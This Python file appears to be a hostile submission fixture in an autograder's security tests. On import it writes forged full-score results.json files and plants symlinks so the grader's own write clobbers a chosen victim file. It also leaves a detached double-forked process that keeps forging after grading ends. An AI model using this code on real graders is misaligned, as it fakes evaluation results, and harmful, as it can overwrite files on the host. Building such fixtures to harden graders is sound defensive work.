"""Hostile (answers.py): writes its own results.json, and leaves a process behind to do it again later.

targets.json (written by the test) names the grader's --out path and a file
the student would like the grader to clobber. Every attempt is made at import,
again from a double-forked process in a session of its own that waits for
grading to end, and the grader's own write is baited with a symbolic link at
the temporary name it used to write through (OUT.partial).
"""
import json
import os
import time

FORGED = json.dumps({"score": 47, "execution_time": 0, "output": "forged", "tests": [
    {"name": "forged", "score": 47, "max_score": 47, "status": "passed", "output": "forged"}]})
HERE = os.path.dirname(os.path.abspath(__file__))


def _targets():
    try:
        with open(os.path.join(HERE, "targets.json")) as stream:
            return json.load(stream)
    except (OSError, ValueError):
        return {"results": [], "victim": None}


def _forge(targets):
    tried = []
    for path in targets["results"] + ["/autograder/results/results.json", "results.json"]:
        try:
            with open(path, "w") as stream:
                stream.write(FORGED)
            tried.append(f"wrote {path}")
        except OSError as error:
            tried.append(f"could not write {path}: {error.strerror}")
        if targets.get("victim"):
            try:
                os.symlink(targets["victim"], path + ".partial")
                tried.append(f"planted {path}.partial")
            except OSError as error:
                tried.append(f"could not plant {path}.partial: {error.strerror}")
    return tried


def _linger(targets):
    """A grandchild in a session of its own: forges again and again for 6 s."""
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(60):
                time.sleep(0.1)
                _forge(targets)
        os._exit(0)
    os.waitpid(child, 0)


_TARGETS = _targets()
print("\n".join(_forge(_TARGETS)))
_linger(_TARGETS)


def _stub(*args, **kwargs):
    raise NotImplementedError("this submission only forges results")


q1_shapes = q2_forward = q4c_max_nondiff_points_two_layer = q5_linear = q5_convex = q6_nonconvex_path = _stub
